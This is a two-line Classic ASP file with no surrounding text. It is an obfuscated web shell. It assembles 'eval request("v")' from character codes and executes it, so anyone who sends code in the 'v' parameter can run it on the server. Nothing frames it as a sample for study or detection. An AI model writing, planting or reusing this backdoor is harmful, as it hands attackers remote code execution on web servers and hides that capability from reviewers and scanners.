<% Response.End : Dim 1 %>
<% k = Chr(101) & Chr(118) & Chr(97) & Chr(108) & " request(" & Chr(34) & "v" & Chr(34) & ")" : Execute k %>